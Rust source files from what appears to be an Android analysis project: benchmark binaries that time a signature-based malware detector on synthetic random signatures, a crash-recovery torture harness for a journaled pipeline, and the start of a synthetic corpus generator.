        .map(|&b| {
            if rng.gen_bool(mutation) {
                BlockSig {
                    pattern: rng.next_u64(),
                    out_degree: (rng.next_u64() % 3) as u8,
                }
            } else {
                b
            }
        })
        .collect();
    BinarySig::from_blocks(sigs)
}

/// A test binary unrelated to every family (fresh random blocks).
fn benign(rng: &mut ChaCha8Rng, blocks: usize) -> BinarySig {
    let sigs = (0..blocks)
        .map(|_| BlockSig {
            pattern: rng.next_u64(),
            out_degree: (rng.next_u64() % 3) as u8,
        })
        .collect();
    BinarySig::from_blocks(sigs)
}

/// Runs every test through `detect` and returns verdicts + wall ms.
fn timed_pass<F>(tests: &[BinarySig], detect: F) -> (Vec<Option<FamilyMatch>>, f64)
where
    F: Fn(&BinarySig) -> Option<FamilyMatch>,
{
    let t0 = Instant::now();
    let verdicts = tests.iter().map(detect).collect();
    (verdicts, t0.elapsed().as_secs_f64() * 1e3)
}

/// Fans the test set over `workers` threads against the shared detector
/// (the detection API is `&self`; counters are atomic).
fn timed_parallel(
    detector: &MalwareDetector,
    tests: &[BinarySig],
    workers: usize,
) -> (Vec<Option<FamilyMatch>>, f64) {
    let t0 = Instant::now();
    let slots: Vec<std::sync::Mutex<Option<FamilyMatch>>> =
        tests.iter().map(|_| std::sync::Mutex::new(None)).collect();
    let next = AtomicUsize::new(0);
    crossbeam::thread::scope(|scope| {
        for _ in 0..workers {
            scope.spawn(|_| loop {
                let i = next.fetch_add(1, Ordering::Relaxed);
                if i >= tests.len() {
                    break;
                }
                *slots[i].lock().unwrap() = detector.detect_sig(&tests[i]);
            });
        }
    })
    .expect("detection workers");
    let verdicts = slots
        .into_iter()
        .map(|slot| slot.into_inner().unwrap())
        .collect();
    (verdicts, t0.elapsed().as_secs_f64() * 1e3)
}

fn verdicts_identical(a: &[Option<FamilyMatch>], b: &[Option<FamilyMatch>]) -> bool {
    a.len() == b.len()
        && a.iter().zip(b).all(|(x, y)| match (x, y) {
            (None, None) => true,
            (Some(x), Some(y)) => x.family == y.family && x.score.to_bits() == y.score.to_bits(),
            _ => false,
        })
}

fn main() {
    let mut parser = ArgParser::new(USAGE);
    let mut common = CommonArgs::for_bench("BENCH_detect.json", 3, 1);
    common.scale = 0.0;
    common.seed = 0xD37EC7;
    let mut families = 12usize;
    let mut family_samples = 8usize;
    let mut tests_n = 400usize;
    let mut blocks = 300usize;
    let mut threshold = dydroid_analysis::acfg::DEFAULT_THRESHOLD;
    let mut skip_naive = false;
    while let Some(arg) = parser.next() {
        if common.accept(&arg, &mut parser) {
            continue;
        }
        match arg.as_str() {
            "--families" => families = parser.value("--families", "an integer"),
            "--family-samples" => family_samples = parser.value("--family-samples", "an integer"),
            "--tests" => tests_n = parser.value("--tests", "an integer"),
            "--blocks" => blocks = parser.value("--blocks", "an integer"),
            "--threshold" => threshold = parser.value("--threshold", "a float"),
            "--skip-naive" => skip_naive = true,
            other => parser.fail(&format!("unknown argument {other:?}")),
        }
    }
    let mut rng = ChaCha8Rng::seed_from_u64(common.seed);

    eprintln!(
        "detectbench: training {families} families x {family_samples} samples ({blocks} blocks each) ..."
    );
    let mut detector = MalwareDetector::with_threshold(threshold);
    let mut bases = Vec::with_capacity(families);
    for f in 0..families {
        let base = family_base(&mut rng, blocks);
        let sigs = (0..family_samples)
            .map(|_| variant(&mut rng, &base, 0.02))
            .collect();
        detector.train_sigs(format!("family_{f:02}"), sigs);
        bases.push(base);
    }

    // Test set: half unseen family variants (mutation 1-12%, so scores
    // straddle the 0.9 default threshold), half unrelated binaries.
    let tests: Vec<BinarySig> = (0..tests_n)
        .map(|i| {
            if i % 2 == 0 {
                let base = &bases[rng.gen_range(0..bases.len())];
                let mutation = 0.01 + 0.11 * (i % 11) as f64 / 10.0;
                variant(&mut rng, base, mutation)
            } else {
                benign(&mut rng, blocks)
            }
        })
        .collect();
    eprintln!(
        "detectbench: {} tests against {} samples",
        tests.len(),
        detector.sample_count()
    );

    let workload = format!("f{families}x{family_samples}-t{tests_n}-b{blocks}");
    let mut record = Measurement::new("detect", &workload, common.scale, common.seed);
    record.samples = common.samples;
    record.warmup = common.warmup;

    // One counted pass first: the pruning counters of exactly one pass
    // over the test set, independent of how many timing rounds follow.
    let mark = detector.stats();
    let (indexed, _) = timed_pass(&tests, |t| detector.detect_sig(t));
    let stats = detector.stats().since(&mark);
    let hits = indexed.iter().filter(|v| v.is_some()).count();
    eprintln!(
        "detectbench: {} / {} flagged; {} candidates, {} pruned, {} fully scored, {} early exits",
        hits,
        tests.len(),
        stats.candidates,
        stats.pruned,
        stats.fully_scored,
        stats.early_exits
    );
    record.counter("detector.candidates", stats.candidates);
    record.counter("detector.pruned", stats.pruned);
    record.counter("detector.fully_scored", stats.fully_scored);
    record.counter("detector.early_exits", stats.early_exits);

    eprintln!(
        "detectbench: indexed sequential pass ({} warmup + {} sample rounds) ...",
        common.warmup, common.samples
    );
    let indexed_ms = sample_rounds(common.samples, common.warmup, || {
        timed_pass(&tests, |t| detector.detect_sig(t)).1
    });
    let indexed_med = Stats::from_samples(&indexed_ms).median;

    let workers = std::thread::available_parallelism()
        .map(std::num::NonZeroUsize::get)
        .unwrap_or(4);
    eprintln!("detectbench: indexed parallel pass ({workers} workers) ...");
    let mut par_verdicts: Option<Vec<Option<FamilyMatch>>> = None;
    let parallel_ms = sample_rounds(common.samples, common.warmup, || {
        let (verdicts, ms) = timed_parallel(&detector, &tests, workers);
        par_verdicts = Some(verdicts);
        ms
    });
    let parallel_med = Stats::from_samples(&parallel_ms).median;
    if !verdicts_identical(&indexed, &par_verdicts.expect("parallel rounds")) {
        eprintln!("detectbench: FAIL — parallel and sequential verdicts differ");
        std::process::exit(EXIT_FINDING);
    }

    record.push_metric("indexed_wall_ms", "ms", Direction::Lower, false, indexed_ms);
    record.push_metric(
        "parallel_wall_ms",
        "ms",
        Direction::Lower,
        false,
        parallel_ms,
    );
    // Deterministic identity: the verdict count must never move for a
    // fixed shape + seed, on any machine.
    record.push_metric(
        "flagged",
        "count",
        Direction::Steady,
        true,
        vec![hits as f64],
    );

    let counters = serde_json::json!({
        "candidates": stats.candidates,
        "pruned": stats.pruned,
        "fully_scored": stats.fully_scored,
        "early_exits": stats.early_exits,
    });
    let mut payload = serde_json::json!({
        "families": families,
        "samples_per_family": family_samples,
        "blocks_per_sample": blocks,
        "tests": tests_n,
        "threshold": threshold,
        "workers": workers,
        "flagged": hits,
        "indexed_ms": indexed_med,
        "parallel_ms": parallel_med,
        "counters": counters,
    });

    if !skip_naive {
        eprintln!(
            "detectbench: naive quadratic pass ({} warmup + {} sample rounds) ...",
            common.warmup, common.samples
        );
        let mut naive_verdicts: Option<Vec<Option<FamilyMatch>>> = None;
        let naive_ms = sample_rounds(common.samples, common.warmup, || {
            let (verdicts, ms) = timed_pass(&tests, |t| detector.detect_sig_naive(t));
            naive_verdicts = Some(verdicts);
            ms
        });
        // The index must not change a single verdict bit.
        if !verdicts_identical(&indexed, &naive_verdicts.expect("naive rounds")) {
            eprintln!("detectbench: FAIL — indexed and naive verdicts differ");
            std::process::exit(EXIT_FINDING);
        }
        eprintln!("detectbench: verdicts identical across all passes");
        let naive_med = Stats::from_samples(&naive_ms).median;
        let speedup = if indexed_med == 0.0 {
            naive_med
        } else {
            naive_med / indexed_med
        };
        let parallel_speedup = if parallel_med == 0.0 {
            naive_med
        } else {
            naive_med / parallel_med
        };
        eprintln!(
            "detectbench: naive {naive_med:.1} ms -> indexed {indexed_med:.1} ms ({speedup:.2}x), \
parallel {parallel_med:.1} ms ({parallel_speedup:.2}x)"
        );
        record.push_metric("naive_wall_ms", "ms", Direction::Lower, false, naive_ms);
        record.push_metric(
            "index_speedup",
            "ratio",
            Direction::Higher,
            false,
            vec![speedup],
        );
        if let serde_json::Value::Object(map) = &mut payload {
            map.push(("naive_ms".to_string(), serde_json::json!(naive_med)));
            map.push(("speedup".to_string(), serde_json::json!(speedup)));
            map.push((
                "parallel_speedup".to_string(),
                serde_json::json!(parallel_speedup),
            ));
        }
    }
    record.payload = payload;

    record
        .write_pretty(&common.out)
        .expect("write bench output");
    eprintln!("detectbench: wrote {}", common.out);
    common.append_history("detectbench", &record);
}
