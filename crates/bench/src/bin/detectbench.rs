//! rebar-style detection benchmark: trains a synthetic multi-family
//! detector, then runs the same test set through the **naive quadratic
//! scan** and the **inverted block index** (sequentially and fanned over
//! a thread pool), verifies all three produce identical verdicts, and
//! emits a `BENCH_detect.json` perf record with the index's pruning
//! counters so future changes have a regression trajectory.
//!
//! ```text
//! detectbench [--families N] [--samples M] [--tests T] [--blocks B]
//!             [--threshold F] [--seed S] [--out PATH] [--skip-naive]
//! ```

use std::io::Write as _;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Instant;

use dydroid_analysis::{BinarySig, BlockSig, FamilyMatch, MalwareDetector};
use rand::{Rng, RngCore, SeedableRng};
use rand_chacha::ChaCha8Rng;

struct Args {
    families: usize,
    samples: usize,
    tests: usize,
    blocks: usize,
    threshold: f64,
    seed: u64,
    out: String,
    skip_naive: bool,
}

fn parse_args() -> Args {
    let mut args = Args {
        families: 12,
        samples: 8,
        tests: 400,
        blocks: 300,
        threshold: dydroid_analysis::acfg::DEFAULT_THRESHOLD,
        seed: 0xD37EC7,
        out: "BENCH_detect.json".to_string(),
        skip_naive: false,
    };
    let mut it = std::env::args().skip(1);
    while let Some(arg) = it.next() {
        let mut num = |flag: &str| -> usize {
            it.next()
                .and_then(|v| v.parse().ok())
                .unwrap_or_else(|| usage(&format!("{flag} needs an integer")))
        };
        match arg.as_str() {
            "--families" => args.families = num("--families"),
            "--samples" => args.samples = num("--samples"),
            "--tests" => args.tests = num("--tests"),
            "--blocks" => args.blocks = num("--blocks"),
            "--threshold" => {
                args.threshold = it
                    .next()
                    .and_then(|v| v.parse().ok())
                    .unwrap_or_else(|| usage("--threshold needs a float"));
            }
            "--seed" => {
                args.seed = it
                    .next()
                    .and_then(|v| v.parse().ok())
                    .unwrap_or_else(|| usage("--seed needs an integer"));
            }
            "--out" => args.out = it.next().unwrap_or_else(|| usage("--out needs a path")),
            "--skip-naive" => args.skip_naive = true,
            "--help" | "-h" => {
                println!("usage: {USAGE}");
                std::process::exit(0);
            }
            other => usage(&format!("unknown argument {other:?}")),
        }
    }
    args
}

const USAGE: &str = "detectbench [--families N] [--samples M] [--tests T] [--blocks B] \
[--threshold F] [--seed S] [--out PATH] [--skip-naive]";

fn usage(msg: &str) -> ! {
    eprintln!("error: {msg}");
    eprintln!("usage: {USAGE}");
    std::process::exit(2);
}

/// A family's base signature: variants of one family mutate this shared
/// block sequence, so intra-family overlap is high and cross-family
/// overlap is negligible — the shape real ACFG signatures have.
fn family_base(rng: &mut ChaCha8Rng, blocks: usize) -> Vec<BlockSig> {
    (0..blocks)
        .map(|_| BlockSig {
            pattern: rng.next_u64(),
            out_degree: (rng.next_u64() % 3) as u8,
        })
        .collect()
}

/// One variant: the family base with each position independently
/// replaced by a fresh random block with probability `mutation`.
fn variant(rng: &mut ChaCha8Rng, base: &[BlockSig], mutation: f64) -> BinarySig {
    let sigs = base
        .iter()
        .map(|&b| {
            if rng.gen_bool(mutation) {
                BlockSig {
                    pattern: rng.next_u64(),
                    out_degree: (rng.next_u64() % 3) as u8,
                }
            } else {
                b
            }
        })
        .collect();
    BinarySig::from_blocks(sigs)
}

/// A test binary unrelated to every family (fresh random blocks).
fn benign(rng: &mut ChaCha8Rng, blocks: usize) -> BinarySig {
    let sigs = (0..blocks)
        .map(|_| BlockSig {
            pattern: rng.next_u64(),
            out_degree: (rng.next_u64() % 3) as u8,
        })
        .collect();
    BinarySig::from_blocks(sigs)
}

/// Runs every test through `detect` and returns verdicts + wall ms.
fn timed_pass<F>(tests: &[BinarySig], detect: F) -> (Vec<Option<FamilyMatch>>, u64)
where
    F: Fn(&BinarySig) -> Option<FamilyMatch>,
{
    let t0 = Instant::now();
    let verdicts = tests.iter().map(detect).collect();
    (verdicts, t0.elapsed().as_millis() as u64)
}

/// Fans the test set over `workers` threads against the shared detector
/// (the detection API is `&self`; counters are atomic).
fn timed_parallel(
    detector: &MalwareDetector,
    tests: &[BinarySig],
    workers: usize,
) -> (Vec<Option<FamilyMatch>>, u64) {
    let t0 = Instant::now();
    let slots: Vec<std::sync::Mutex<Option<FamilyMatch>>> =
        tests.iter().map(|_| std::sync::Mutex::new(None)).collect();
    let next = AtomicUsize::new(0);
    crossbeam::thread::scope(|scope| {
        for _ in 0..workers {
            scope.spawn(|_| loop {
                let i = next.fetch_add(1, Ordering::Relaxed);
                if i >= tests.len() {
                    break;
                }
                *slots[i].lock().unwrap() = detector.detect_sig(&tests[i]);
            });
        }
    })
    .expect("detection workers");
    let verdicts = slots
        .into_iter()
        .map(|slot| slot.into_inner().unwrap())
        .collect();
    (verdicts, t0.elapsed().as_millis() as u64)
}

fn verdicts_identical(a: &[Option<FamilyMatch>], b: &[Option<FamilyMatch>]) -> bool {
    a.len() == b.len()
        && a.iter().zip(b).all(|(x, y)| match (x, y) {
            (None, None) => true,
            (Some(x), Some(y)) => x.family == y.family && x.score.to_bits() == y.score.to_bits(),
            _ => false,
        })
}

fn main() {
    let args = parse_args();
    let mut rng = ChaCha8Rng::seed_from_u64(args.seed);

    eprintln!(
        "detectbench: training {} families x {} samples ({} blocks each) ...",
        args.families, args.samples, args.blocks
    );
    let mut detector = MalwareDetector::with_threshold(args.threshold);
    let mut bases = Vec::with_capacity(args.families);
    for f in 0..args.families {
        let base = family_base(&mut rng, args.blocks);
        let sigs = (0..args.samples)
            .map(|_| variant(&mut rng, &base, 0.02))
            .collect();
        detector.train_sigs(format!("family_{f:02}"), sigs);
        bases.push(base);
    }

    // Test set: half unseen family variants (mutation 1-12%, so scores
    // straddle the 0.9 default threshold), half unrelated binaries.
    let tests: Vec<BinarySig> = (0..args.tests)
        .map(|i| {
            if i % 2 == 0 {
                let base = &bases[rng.gen_range(0..bases.len())];
                let mutation = 0.01 + 0.11 * (i % 11) as f64 / 10.0;
                variant(&mut rng, base, mutation)
            } else {
                benign(&mut rng, args.blocks)
            }
        })
        .collect();
    eprintln!(
        "detectbench: {} tests against {} samples",
        tests.len(),
        detector.sample_count()
    );

    let mark = detector.stats();
    eprintln!("detectbench: indexed sequential pass ...");
    let (indexed, indexed_ms) = timed_pass(&tests, |t| detector.detect_sig(t));
    let stats = detector.stats().since(&mark);
    let hits = indexed.iter().filter(|v| v.is_some()).count();
    eprintln!(
        "detectbench: {} / {} flagged; {} candidates, {} pruned, {} fully scored, {} early exits",
        hits,
        tests.len(),
        stats.candidates,
        stats.pruned,
        stats.fully_scored,
        stats.early_exits
    );

    let workers = std::thread::available_parallelism()
        .map(std::num::NonZeroUsize::get)
        .unwrap_or(4);
    eprintln!("detectbench: indexed parallel pass ({workers} workers) ...");
    let (par, parallel_ms) = timed_parallel(&detector, &tests, workers);
    if !verdicts_identical(&indexed, &par) {
        eprintln!("detectbench: FAIL — parallel and sequential verdicts differ");
        std::process::exit(1);
    }

    let counters = serde_json::json!({
        "candidates": stats.candidates,
        "pruned": stats.pruned,
        "fully_scored": stats.fully_scored,
        "early_exits": stats.early_exits,
    });
    let mut doc = serde_json::json!({
        "bench": "detect",
        "families": args.families,
        "samples_per_family": args.samples,
        "blocks_per_sample": args.blocks,
        "tests": args.tests,
        "threshold": args.threshold,
        "seed": args.seed,
        "workers": workers,
        "flagged": hits,
        "indexed_ms": indexed_ms,
        "parallel_ms": parallel_ms,
        "counters": counters,
    });

    if !args.skip_naive {
        eprintln!("detectbench: naive quadratic pass ...");
        let (naive, naive_ms) = timed_pass(&tests, |t| detector.detect_sig_naive(t));
        // The index must not change a single verdict bit.
        if !verdicts_identical(&indexed, &naive) {
            eprintln!("detectbench: FAIL — indexed and naive verdicts differ");
            std::process::exit(1);
        }
        eprintln!("detectbench: verdicts identical across all passes");
        let speedup = if indexed_ms == 0 {
            naive_ms as f64
        } else {
            naive_ms as f64 / indexed_ms as f64
        };
        let parallel_speedup = if parallel_ms == 0 {
            naive_ms as f64
        } else {
            naive_ms as f64 / parallel_ms as f64
        };
        eprintln!(
            "detectbench: naive {naive_ms} ms -> indexed {indexed_ms} ms ({speedup:.2}x), \
parallel {parallel_ms} ms ({parallel_speedup:.2}x)"
        );
        if let serde_json::Value::Object(map) = &mut doc {
            map.push(("naive_ms".to_string(), serde_json::json!(naive_ms)));
            map.push(("speedup".to_string(), serde_json::json!(speedup)));
            map.push((
                "parallel_speedup".to_string(),
                serde_json::json!(parallel_speedup),
            ));
        }
    }

    let mut f = std::fs::File::create(&args.out).expect("create bench output");
    f.write_all(
        serde_json::to_string_pretty(&doc)
            .expect("serialise")
            .as_bytes(),
    )
    .expect("write bench output");
    eprintln!("detectbench: wrote {}", args.out);
}
