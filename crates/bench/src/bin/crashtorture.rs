//! Crash-torture smoke harness: kills a journaled sweep at sampled write
//! boundaries (optionally under an injected I/O fault script), resumes
//! each killed run cleanly, and byte-compares the finalized journal,
//! provenance ledger and event stream against the fault-free run at the
//! same seed.
//!
//! ```text
//! crashtorture [--scale F] [--seed N] [--crash-points N] [--fault-rate F]
//!              [--fault-seed N] [--out PATH]
//! ```
//!
//! `--crash-points 0` exercises every write boundary; otherwise `N`
//! evenly spaced boundaries are sampled. `--fault-rate` additionally
//! injects short writes, bit-flips, transient errors and ENOSPC at that
//! per-op probability during the killed runs. `--out` writes the
//! recovered report (tables rendered from the last resumed run) as a CI
//! artifact. Exits non-zero if any crash point fails to recover
//! byte-identically.

use std::path::PathBuf;
use std::sync::Arc;

use dydroid::{IoHarness, Journal, Pipeline, PipelineConfig};
use dydroid_workload::faults::{crash_points, crash_torture, IoFaultScript, IoFaultSpec};
use dydroid_workload::{generate, CorpusSpec};

const USAGE: &str = "crashtorture [--scale F] [--seed N] [--crash-points N] [--fault-rate F] \
[--fault-seed N] [--out PATH]";

struct Args {
    scale: f64,
    seed: u64,
    crash_points: u64,
    fault_rate: f64,
    fault_seed: u64,
    out: Option<String>,
}

fn usage(msg: &str) -> ! {
    eprintln!("error: {msg}");
    eprintln!("usage: {USAGE}");
    std::process::exit(2);
}

fn parse_args() -> Args {
    let mut args = Args {
        scale: 0.01,
        seed: CorpusSpec::default().seed,
        crash_points: 16,
        fault_rate: 0.0,
        fault_seed: 17,
        out: None,
    };
    let mut it = std::env::args().skip(1);
    while let Some(arg) = it.next() {
        match arg.as_str() {
            "--scale" => {
                args.scale = it
                    .next()
                    .and_then(|v| v.parse().ok())
                    .unwrap_or_else(|| usage("--scale needs a float"));
            }
            "--seed" => {
                args.seed = it
                    .next()
                    .and_then(|v| v.parse().ok())
                    .unwrap_or_else(|| usage("--seed needs an integer"));
            }
            "--crash-points" => {
                args.crash_points = it
                    .next()
                    .and_then(|v| v.parse().ok())
                    .unwrap_or_else(|| usage("--crash-points needs an integer (0 = every op)"));
            }
            "--fault-rate" => {
                args.fault_rate = it
                    .next()
                    .and_then(|v| v.parse().ok())
                    .unwrap_or_else(|| usage("--fault-rate needs a float in [0,1)"));
            }
            "--fault-seed" => {
                args.fault_seed = it
                    .next()
                    .and_then(|v| v.parse().ok())
                    .unwrap_or_else(|| usage("--fault-seed needs an integer"));
            }
            "--out" => args.out = it.next().or_else(|| usage("--out needs a path")),
            "--help" | "-h" => {
                println!("usage: {USAGE}");
                std::process::exit(0);
            }
            other => usage(&format!("unknown argument {other:?}")),
        }
    }
    args
}

fn temp_journal(tag: &str) -> Journal {
    let path: PathBuf = std::env::temp_dir().join(format!(
        "dydroid_crashtorture_{tag}_{}.jsonl",
        std::process::id()
    ));
    let journal = Journal::new(path);
    journal.reset().expect("reset journal");
    journal
}

fn main() {
    let args = parse_args();
    let corpus = generate(&CorpusSpec {
        scale: args.scale,
        seed: args.seed,
    });
    eprintln!(
        "crashtorture: {} apps (scale {}, seed {:#x}), fault rate {}",
        corpus.len(),
        args.scale,
        args.seed,
        args.fault_rate
    );
    let config = PipelineConfig {
        environment_reruns: false,
        ..Default::default()
    };
    let script = (args.fault_rate > 0.0).then(|| {
        IoFaultScript::new(IoFaultSpec {
            rate: args.fault_rate,
            seed: args.fault_seed,
        })
    });

    // All three finalized streams of one journaled run, concatenated.
    let stream_bytes = |journal: &Journal| -> Vec<u8> {
        let mut bytes = std::fs::read(journal.path()).expect("journal bytes");
        bytes.extend(std::fs::read(journal.provenance_path()).expect("ledger bytes"));
        bytes.extend(std::fs::read(journal.events_path()).expect("events bytes"));
        bytes
    };
    let last_report = std::cell::RefCell::new(None);
    let run = |tag: &str, harness: Option<Arc<IoHarness>>| -> Vec<u8> {
        let journal = temp_journal(tag);
        let mut pipeline = Pipeline::new(config.clone());
        if let Some(h) = &harness {
            pipeline.set_io_harness(Arc::clone(h));
        }
        let _ = pipeline
            .run_resumable(&corpus, &journal)
            .expect("interrupted run still returns");
        if harness.is_some() {
            let report = Pipeline::new(config.clone())
                .run_resumable(&corpus, &journal)
                .expect("resumed run");
            *last_report.borrow_mut() = Some(report);
        }
        let bytes = stream_bytes(&journal);
        journal.reset().expect("cleanup");
        bytes
    };

    let counter = IoHarness::counting();
    let reference = run("ref", Some(Arc::clone(&counter)));
    let total_ops = counter.ops();
    let points = crash_points(total_ops, args.crash_points);
    eprintln!(
        "crashtorture: {} write ops, exercising {} crash point(s)",
        total_ops,
        points.len()
    );
    let report = crash_torture(
        move || (reference, total_ops),
        &points,
        |op| run(&format!("op{op}"), Some(IoHarness::new(Some(op), script))),
    );

    if let (Some(path), Some(recovered)) = (&args.out, last_report.borrow().as_ref()) {
        std::fs::write(path, recovered.render_all()).unwrap_or_else(|e| {
            eprintln!("error: cannot write {path}: {e}");
            std::process::exit(1);
        });
        eprintln!("crashtorture: recovered report written to {path}");
    }

    let divergent = report.divergent();
    if divergent.is_empty() {
        println!(
            "ok: {} crash point(s) of {} write ops all recovered byte-identically",
            report.verdicts.len(),
            report.total_ops
        );
    } else {
        eprintln!(
            "FAIL: {} of {} crash point(s) diverged from the fault-free streams: {divergent:?}",
            divergent.len(),
            report.verdicts.len()
        );
        std::process::exit(1);
    }
}
