//! Crash-torture smoke harness: kills a journaled sweep at sampled write
//! boundaries (optionally under an injected I/O fault script), resumes
//! each killed run cleanly, and byte-compares the finalized journal,
//! provenance ledger and event stream against the fault-free run at the
//! same seed.
//!
//! `--crash-points 0` exercises every write boundary; otherwise `N`
//! evenly spaced boundaries are sampled. `--fault-rate` additionally
//! injects short writes, bit-flips, transient errors and ENOSPC at that
//! per-op probability during the killed runs. The run emits a unified
//! `BENCH_crash.json` measurement record (appended to
//! `BENCH_history.jsonl`) whose write-op and crash-point totals are
//! `Steady` virtual identities benchcmp gates across machines;
//! `--report-out` additionally writes the recovered report (tables
//! rendered from the last resumed run) as a CI artifact. Exits 1 if any
//! crash point fails to recover byte-identically.

use std::path::PathBuf;
use std::sync::Arc;
use std::time::Instant;

use dydroid::{IoHarness, Journal, Pipeline, PipelineConfig};
use dydroid_bench::{ArgParser, CommonArgs, Direction, Measurement, EXIT_FINDING};
use dydroid_workload::faults::{crash_points, crash_torture, IoFaultScript, IoFaultSpec};
use dydroid_workload::{generate, CorpusSpec};

const USAGE: &str = "crashtorture [--scale F] [--seed N] [--crash-points N] [--fault-rate F] \
[--fault-seed N] [--out PATH] [--report-out PATH] [--history PATH | --no-history]";

fn temp_journal(tag: &str) -> Journal {
    let path: PathBuf = std::env::temp_dir().join(format!(
        "dydroid_crashtorture_{tag}_{}.jsonl",
        std::process::id()
    ));
    let journal = Journal::new(path);
    journal.reset().expect("reset journal");
    journal
}

fn main() {
    let mut parser = ArgParser::new(USAGE);
    let mut common = CommonArgs::for_bench("BENCH_crash.json", 1, 0);
    let mut crash_count = 16u64;
    let mut fault_rate = 0.0f64;
    let mut fault_seed = 17u64;
    let mut report_out: Option<String> = None;
    while let Some(arg) = parser.next() {
        if common.accept(&arg, &mut parser) {
            continue;
        }
        match arg.as_str() {
            "--crash-points" => {
                crash_count = parser.value("--crash-points", "an integer (0 = every op)")
            }
            "--fault-rate" => fault_rate = parser.value("--fault-rate", "a float in [0,1)"),
            "--fault-seed" => fault_seed = parser.value("--fault-seed", "an integer"),
            "--report-out" => report_out = Some(parser.raw("--report-out")),
            other => parser.fail(&format!("unknown argument {other:?}")),
        }
    }

    let corpus = generate(&CorpusSpec {
        scale: common.scale,
        seed: common.seed,
    });
    eprintln!(
        "crashtorture: {} apps (scale {}, seed {:#x}), fault rate {}",
        corpus.len(),
        common.scale,
        common.seed,
        fault_rate
    );
    let config = PipelineConfig {
        environment_reruns: false,
        ..Default::default()
    };
    let script = (fault_rate > 0.0).then(|| {
        IoFaultScript::new(IoFaultSpec {
            rate: fault_rate,
            seed: fault_seed,
        })
    });

    // All three finalized streams of one journaled run, concatenated.
    let stream_bytes = |journal: &Journal| -> Vec<u8> {
        let mut bytes = std::fs::read(journal.path()).expect("journal bytes");
        bytes.extend(std::fs::read(journal.provenance_path()).expect("ledger bytes"));
        bytes.extend(std::fs::read(journal.events_path()).expect("events bytes"));
        bytes
    };
    let last_report = std::cell::RefCell::new(None);
    let run = |tag: &str, harness: Option<Arc<IoHarness>>| -> Vec<u8> {
        let journal = temp_journal(tag);
        let mut pipeline = Pipeline::new(config.clone());
        if let Some(h) = &harness {
            pipeline.set_io_harness(Arc::clone(h));
        }
        let _ = pipeline
            .run_resumable(&corpus, &journal)
            .expect("interrupted run still returns");
        if harness.is_some() {
            let report = Pipeline::new(config.clone())
                .run_resumable(&corpus, &journal)
                .expect("resumed run");
            *last_report.borrow_mut() = Some(report);
        }
        let bytes = stream_bytes(&journal);
        journal.reset().expect("cleanup");
        bytes
    };

    let t0 = Instant::now();
    let counter = IoHarness::counting();
    let reference = run("ref", Some(Arc::clone(&counter)));
    let total_ops = counter.ops();
    let points = crash_points(total_ops, crash_count);
    eprintln!(
        "crashtorture: {} write ops, exercising {} crash point(s)",
        total_ops,
        points.len()
    );
    let report = crash_torture(
        move || (reference, total_ops),
        &points,
        |op| run(&format!("op{op}"), Some(IoHarness::new(Some(op), script))),
    );
    let torture_ms = t0.elapsed().as_secs_f64() * 1e3;

    if let (Some(path), Some(recovered)) = (&report_out, last_report.borrow().as_ref()) {
        std::fs::write(path, recovered.render_all()).unwrap_or_else(|e| {
            eprintln!("error: cannot write {path}: {e}");
            std::process::exit(EXIT_FINDING);
        });
        eprintln!("crashtorture: recovered report written to {path}");
    }

    let divergent = report.divergent();
    // `--crash-points` shapes the sampled-point identity, so it belongs
    // in the workload string: records at different point counts are a
    // shape mismatch and their Steady metrics must not gate.
    let workload = if fault_rate > 0.0 {
        format!("faults-{fault_rate}-p{crash_count}")
    } else {
        format!("crash-only-p{crash_count}")
    };
    let mut record = Measurement::new("crash", &workload, common.scale, common.seed);
    record.samples = common.samples;
    record.warmup = common.warmup;
    if let Some(recovered) = last_report.borrow().as_ref() {
        record.counters_from_stats(recovered.stats());
    }
    // Deterministic identities: the write-op total and sampled point
    // count must never move for a fixed scale + seed, on any machine.
    record.push_metric(
        "write_ops",
        "count",
        Direction::Steady,
        true,
        vec![report.total_ops as f64],
    );
    record.push_metric(
        "crash_points",
        "count",
        Direction::Steady,
        true,
        vec![report.verdicts.len() as f64],
    );
    // Any divergence is a correctness failure; the metric also gates in
    // benchcmp (Lower: 0 is the only clean value).
    record.push_metric(
        "divergent",
        "count",
        Direction::Lower,
        true,
        vec![divergent.len() as f64],
    );
    record.push_metric(
        "torture_wall_ms",
        "ms",
        Direction::Lower,
        false,
        vec![torture_ms],
    );
    record.counter("crash.write_ops", report.total_ops);
    record.counter("crash.points", report.verdicts.len() as u64);
    record.counter("crash.divergent", divergent.len() as u64);
    record.payload = serde_json::json!({
        "apps": corpus.len(),
        "fault_rate": fault_rate,
        "fault_seed": fault_seed,
        "total_ops": report.total_ops,
        "points": report.verdicts.len(),
        "divergent": serde_json::to_value(&divergent).expect("serialise divergent"),
    });

    record
        .write_pretty(&common.out)
        .expect("write bench output");
    eprintln!("crashtorture: wrote {}", common.out);
    common.append_history("crashtorture", &record);

    if divergent.is_empty() {
        println!(
            "ok: {} crash point(s) of {} write ops all recovered byte-identically",
            report.verdicts.len(),
            report.total_ops
        );
    } else {
        eprintln!(
            "FAIL: {} of {} crash point(s) diverged from the fault-free streams: {divergent:?}",
            divergent.len(),
            report.verdicts.len()
        );
        std::process::exit(EXIT_FINDING);
    }
}
