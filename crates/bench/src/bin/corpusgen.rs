//! Dumps a synthetic corpus to disk so the `analyze` tool (or any
//! external consumer) can work with standalone `.apk` files.
//!
//! ```text
//! corpusgen <out-dir> [--scale F] [--seed N]
//! ```
//!
//! Layout:
//!
//! ```text
//! <out-dir>/apks/<package>.apk        installable archives
//! <out-dir>/fixtures/<n>.bin          remote payload / planted-file bytes
//! <out-dir>/fixtures.json             per-app environment fixtures
//! <out-dir>/truth.json                ground-truth plans (for evaluation)
//! ```

use std::fs;
use std::path::PathBuf;

use dydroid_workload::{generate, CorpusSpec};

fn main() {
    let mut args = std::env::args().skip(1);
    let Some(out_dir) = args.next().map(PathBuf::from) else {
        eprintln!("usage: corpusgen <out-dir> [--scale F] [--seed N]");
        std::process::exit(2);
    };
    let mut scale = 0.01f64;
    let mut seed = CorpusSpec::default().seed;
    while let Some(arg) = args.next() {
        match arg.as_str() {
            "--scale" => scale = args.next().and_then(|v| v.parse().ok()).unwrap_or(scale),
            "--seed" => seed = args.next().and_then(|v| v.parse().ok()).unwrap_or(seed),
            other => {
                eprintln!("unknown argument {other:?}");
                std::process::exit(2);
            }
        }
    }

    let corpus = generate(&CorpusSpec { scale, seed });
    let apk_dir = out_dir.join("apks");
    let fix_dir = out_dir.join("fixtures");
    fs::create_dir_all(&apk_dir).expect("create apks dir");
    fs::create_dir_all(&fix_dir).expect("create fixtures dir");

